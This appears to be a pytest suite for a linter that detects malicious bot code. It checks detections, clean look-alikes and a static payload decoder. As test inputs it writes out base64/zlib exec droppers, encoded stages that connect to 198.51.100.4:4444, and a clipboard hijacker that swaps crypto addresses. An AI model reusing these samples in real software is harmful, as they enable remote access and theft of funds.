"""BOT5 (code typical of malicious bots): the fixtures under fixtures/malicious/, the family
policy (kept in tests, not hidden by the allowlist pragma, author's suppressions ignored with
--ignore-noqa), the pre-checks, the look-alikes that must stay clean, and the static payload
decoder's limits (nothing scanned is ever run)."""
from __future__ import annotations

import base64
import bz2
import lzma
import os
import zlib

import libcst as cst
import pytest

from botlint import registry
from botlint.analysis import payloads
from botlint.analysis.imports import dotted
from botlint.engine import lint_paths, lint_source
from botlint.model import Severity
from botlint.rule import PREFILTER_ENV

from conftest import FIXTURES
from helpers import expected_markers, settings

MALICIOUS = os.path.join(FIXTURES, "malicious")
FILES = sorted(os.listdir(MALICIOUS))


def lint(src, path="bot.py", select=("BOT5",), **kw):
    data = src.encode() if isinstance(src, str) else src
    return lint_source(data, path, settings(list(select), **kw))


def codes(src, path="bot.py", **kw):
    return sorted({f.code for f in lint(src, path, **kw)})


# -- fixtures ------------------------------------------------------------------------------------


def test_every_bot5_rule_has_a_fixture():
    text = "".join(open(os.path.join(MALICIOUS, f), encoding="utf-8").read() for f in FILES)
    for code in ("BOT501", "BOT502", "BOT503", "BOT504", "BOT505", "BOT506", "BOT507"):
        assert f"[{code}]" in text, code


@pytest.mark.parametrize("name", FILES)
def test_fixture(name):
    path = os.path.join(MALICIOUS, name)
    with open(path, "rb") as fh:
        data = fh.read()
    text = data.decode("utf-8")
    assert "Imitates" in text or "Not a clipper" in text, "a fixture cites the public write-up it imitates"
    found = lint_source(data, f"fixtures/malicious/{name}", settings(["BOT5"], ignore_noqa=True))
    got = {(f.line, f.code) for f in found}
    want = expected_markers(text)
    assert got == want, f"missing={sorted(want - got)} unexpected={sorted(got - want)}"


def test_the_gates_change_no_finding(monkeypatch):
    def run():
        r = lint_paths([MALICIOUS], settings(["BOT5"]), jobs=1, use_cache=False)
        return sorted((f.path, f.location.line, f.code, f.message) for f in r.findings)

    monkeypatch.delenv(PREFILTER_ENV, raising=False)
    gated = run()
    monkeypatch.setenv(PREFILTER_ENV, "0")
    assert gated and run() == gated


# -- look-alikes that must stay clean ------------------------------------------------------------

CLEAN = {
    "dataframe_eval": 'import pandas as pd\ndf = pd.DataFrame({"a": [1]})\ndf.eval("a + 1")\ndf.query("a > 0")\n',
    "literal_eval": 'import ast\nvalue = ast.literal_eval(text)\n',
    "plugin_loader": 'import importlib\ndef load(name):\n    return importlib.import_module(f"strategies.{name}")\n',
    "restricted_eval": 'def f(expr):\n    return eval(expr, {"__builtins__": {}}, {})\n',
    "hmac_secret": 'import base64, hashlib, hmac, os\nkey = base64.b64decode(os.environ["SECRET"])\n'
                   'sig = hmac.new(key, b"msg", hashlib.sha256).hexdigest()\n',
    "ws_frames": 'import gzip, json, zlib\nasync def on(ws):\n    async for frame in ws:\n'
                 '        msg = json.loads(gzip.decompress(frame))\n'
                 '        other = zlib.decompress(frame, -zlib.MAX_WBITS)\n',
    "tx_decode": 'import rlp\nraw = bytes.fromhex(tx_hex[2:])\nfields = rlp.decode(raw)\n'
                 'from solders.transaction import VersionedTransaction\n'
                 'vt = VersionedTransaction.from_bytes(base64.b64decode(tx_b64))\n',
    "jinja": 'from jinja2 import Template\nout = Template(open("msg.j2").read()).render(price=1)\n',
    "re_compile": 'import re\nfrom re import compile\nP = re.compile(r"\\d+")\nQ = compile("[a-z]+")\n',
    "version_exec": 'exec(open("pkg/_version.py").read())\n',
    "own_exec_function": 'def exec(cmd):\n    return cmd\nimport base64\nexec(base64.b64decode(x))\n',
    "telegram_notify": 'import os, requests\nT = os.environ["TG_TOKEN"]\n'
                       'requests.post(f"https://api.telegram.org/bot{T}/sendMessage",'
                       ' data={"chat_id": 1, "text": "hi"})\n',
    "withdraw_from_config": 'import ccxt\nex = ccxt.binance()\nex.withdraw("USDT", 5, cfg["address"])\n',
    "ccxt_subclass_defaults": 'import ccxt\nclass B(ccxt.binance):\n    def sign(self, *a, **k):\n'
                              '        return super().sign(*a, **k)\n',
    "keystore_then_notify": 'import json, requests\nfrom web3 import Web3\ndef main():\n'
                            '    with open("keystore/UTC--2024--abc.json") as f:\n'
                            '        acct = Web3().eth.account.decrypt(f.read(), "pw")\n'
                            '    requests.post("https://api.telegram.org/bot1/sendMessage", data={"text": "up"})\n',
    "clipboard_checksum": 'import re, pyperclip\nfrom web3 import Web3\ntext = pyperclip.paste()\n'
                          'if re.fullmatch(r"0x[a-fA-F0-9]{40}", text):\n'
                          '    pyperclip.copy(Web3.to_checksum_address(text))\n',
    "proxied_transport": 'import ccxt, requests\nclass P(ccxt.binance):\n'
                         '    def fetch(self, url, method="GET", headers=None, body=None):\n'
                         '        return requests.request(method, url, headers=headers, data=body).json()\n',
    "test_stub_fetch": 'import ccxt\nex = ccxt.binance()\ndef fetch(url, method="GET", headers=None, body=None):\n'
                       '    return {"ok": True}\nex.fetch = fetch\n',
    "service_pickle": 'import pickle\nasync def snap(session, url):\n    resp = await session.get(url)\n'
                      '    return pickle.loads(await resp.read())\n',
    "mock_in_tests": 'import ccxt\nfrom unittest.mock import MagicMock\nccxt.binance.fetch = MagicMock()\n',
}


@pytest.mark.parametrize("name", sorted(CLEAN))
def test_look_alikes_are_clean(name):
    assert codes(CLEAN[name]) == []


def test_setup_and_conftest_look_alikes_are_clean():
    setup = ('import subprocess\nfrom setuptools import setup\nfrom setuptools.command.build_ext import build_ext\n'
             'class Build(build_ext):\n    def run(self):\n        subprocess.check_call(["make"])\n'
             'v = subprocess.check_output(["git", "describe"]).decode()\n'
             'setup(name="x", cmdclass={"build_ext": Build})\n')
    assert codes(setup, "setup.py") == []
    conftest = ('import subprocess, pytest\n@pytest.fixture\ndef redis():\n'
                '    p = subprocess.Popen(["redis-server"])\n    yield\n    p.terminate()\n')
    assert codes(conftest, "tests/conftest.py") == []
    ping = ('import pytest, requests\ndef pytest_sessionstart(session):\n'
            '    requests.get("https://testnet.binance.vision/api/v3/ping", timeout=3)\n')
    assert codes(ping, "tests/conftest.py") == []


# -- family policy -------------------------------------------------------------------------------

DROPPER = 'import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))\n'


def test_findings_in_tests_are_kept_at_full_severity():
    for code in ("BOT501", "BOT502", "BOT503", "BOT504", "BOT505", "BOT506", "BOT507"):
        rule = registry.get(code)
        assert rule.IN_TESTS == "keep" and rule.SEVERITY >= Severity.HIGH and not rule.SECRET
    outside = lint(DROPPER, "bot.py")
    inside = lint(DROPPER, "tests/test_bot.py")
    assert [f.severity for f in inside] == [f.severity for f in outside] == [Severity.CRITICAL]


def test_author_suppressions_do_not_hide_findings_when_vetting():
    marked = DROPPER.replace('"))\n', '"))  # botlint: ignore[BOT501]\n')
    assert codes(marked) == []  # the author's marker works in the author's own runs
    assert codes(marked, ignore_noqa=True) == ["BOT501"]  # the vetting command ignores it
    pragma = DROPPER.replace('"))\n', '"))  # pragma: allowlist secret\n')
    assert codes(pragma) == ["BOT501"]  # detect-secrets' pragma is for secrets only


def test_precheck_skips_files_without_the_words():
    for code in ("BOT501", "BOT502", "BOT503", "BOT504", "BOT505", "BOT506", "BOT507"):
        rule = registry.get(code)
        assert not rule.precheck("import ccxt_helpers\nprint(1)\n") or code in ("BOT503", "BOT506"), code
    assert registry.get("BOT501").precheck(DROPPER)


# -- messages say what the payload does, never what it is ---------------------------------------


def test_message_describes_the_payload_without_quoting_it():
    inner = b"import os, socket\nMARKER_7731 = 1\nsocket.create_connection(('198.51.100.4', 4444))\n" \
            b"import requests\nrequests.post('https://api.telegram.org/bot1/sendMessage', data={})\n"
    blob = base64.b64encode(zlib.compress(inner)).decode()
    (f,) = lint(f'import base64, zlib\nexec(zlib.decompress(base64.b64decode("{blob}")))\n')
    assert "base64 -> zlib" in f.message and "imports os, socket, requests" in f.message
    assert "the Telegram bot API" in f.message
    assert "MARKER_7731" not in f.message and blob[:20] not in f.message and "198.51.100.4" not in f.message


def test_exec_through_names_aliases_and_builtins():
    src = ('import base64 as b\nimport builtins\nP = "aW1wb3J0IG9z"\nrun = exec\nrun(b.b64decode(P))\n'
           'getattr(builtins, "ex" + "ec")(b.b64decode(P))\n__builtins__["exec"](b.b64decode(P))\n'
           'builtins.eval(b.b64decode(P))\n')
    assert [f.line for f in lint(src, select=("BOT501",))] == [5, 6, 7, 8]


# -- the decoder: static, bounded ---------------------------------------------------------------


def _payload(expr: str) -> payloads.Payload:
    return payloads.Unwrapper({}, dotted).payload(cst.parse_expression(expr))


def test_decoder_layers():
    text = b"print('hello')"
    assert _payload(f'base64.b64decode("{base64.b64encode(text).decode()}")').data == text
    packed = base64.b64encode(bz2.compress(text)).decode()
    assert _payload(f'bz2.decompress(base64.b64decode("{packed}"))').data == text
    packed = base64.b85encode(lzma.compress(text)).decode()
    assert _payload(f'lzma.decompress(base64.b85decode("{packed}"))').data == text
    assert _payload(f'bytes.fromhex("{text.hex()}")').data == text
    assert _payload(f'base64.b64decode("{base64.b64encode(text).decode()[::-1]}"[::-1])').data == text
    assert _payload('codecs.decode("cevag(1)", "rot13")').data == b"print(1)"
    p = _payload('zlib.decompress(base64.b64decode(blob))')  # not a literal: layers known, no data
    assert p.layers == ["base64", "zlib"] and p.data is None


def test_decompression_is_bounded():
    bomb = zlib.compress(b"\0" * (payloads.MAX_SIZE * 4), 9)
    p = _payload(f'zlib.decompress(base64.b64decode("{base64.b64encode(bomb).decode()}"))')
    assert p.truncated and len(p.data) == payloads.MAX_SIZE


def test_layers_are_bounded():
    expr = '"aGk="'
    for _ in range(payloads.MAX_DEPTH + 3):
        expr = f"base64.b64decode({expr})"
    p = _payload(expr)
    assert p.data is None  # too deep: not decoded


def test_nothing_is_unmarshalled_or_run(monkeypatch, tmp_path):
    import marshal
    import pickle

    def refuse(*a, **k):
        raise AssertionError("botlint must never unmarshal or unpickle scanned data")

    monkeypatch.setattr(marshal, "loads", refuse)
    monkeypatch.setattr(pickle, "loads", refuse)
    target = tmp_path / "ran"
    code = f"open({str(target)!r}, 'w').write('x')".encode()
    src = (f'import base64, marshal, pickle\nexec(base64.b64decode("{base64.b64encode(code).decode()}"))\n'
           'exec(marshal.loads(base64.b64decode("YwAAAA==")))\nexec(pickle.loads(b"x"))\n')
    found = lint(src)
    assert [f.code for f in found] == ["BOT501"] * 3
    assert not target.exists()


def test_a_payload_that_decodes_another_is_followed():
    inner = b"import socket\nsocket.create_connection(('198.51.100.4', 4444))\n"
    stage = (b"import base64 as b\nimport zlib\nexec(zlib.decompress(b.b64decode('"
             + base64.b64encode(zlib.compress(inner)) + b"'.encode())))\n")
    src = f'import base64\nexec(base64.b64decode("{base64.b64encode(stage).decode()}"))\n'
    (f,) = lint(src, select=("BOT501",))
    assert "then a second stage under base64 -> zlib" in f.message and "imports socket" in f.message
    deep = b"exec(" * 5000 + b")" * 5000  # too deep to parse safely: the outer finding stays
    (g,) = lint(f'import base64\nexec(base64.b64decode("{base64.b64encode(deep).decode()}"))\n', select=("BOT501",))
    assert "second stage" not in g.message


# -- clippers that pick the attacker's address from a table in a loop -----------------------------

_BTC = "bc1q" + "x7k2m9p4w8n3r6t5y1z0v" * 2  # pragma: allowlist secret
_ETH = "0x" + "9f3a" * 10  # pragma: allowlist secret


@pytest.mark.parametrize("table, loop", [
    (f'SWAPS = [(re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{{25,62}}$"), "{_BTC}"),\n'
     f'         (re.compile(r"^0x[0-9a-fA-F]{{40}}$"), "{_ETH}")]\n', "for rx, mine in SWAPS:"),
    (f'SWAPS = {{"btc": (re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{{25,62}}$"), "{_BTC}")}}\n',
     "for rx, mine in SWAPS.values():"),
])
def test_a_clipper_picking_its_address_from_a_table_in_a_loop(table, loop):
    src = ("import re, time\n" + table + "\n\ndef watch():\n    import pyperclip\n    while True:\n"
           "        cur = pyperclip.paste().strip()\n        " + loop + "\n"
           "            if rx.match(cur) and cur != mine:\n                pyperclip.copy(mine)\n"
           "        time.sleep(0.5)\n")
    found = [(f.code, f.line) for f in lint(src)]
    assert ("BOT505", src.splitlines().index("                pyperclip.copy(mine)") + 1) in found


def test_a_loop_over_what_was_read_is_not_a_fixed_address():
    src = ('import re, pyperclip\nADDR = re.compile(r"0x[a-fA-F0-9]{40}")\n'
           "for found in ADDR.findall(pyperclip.paste()):\n    pyperclip.copy(found.lower())\n")
    assert [f.code for f in lint(src)] == []
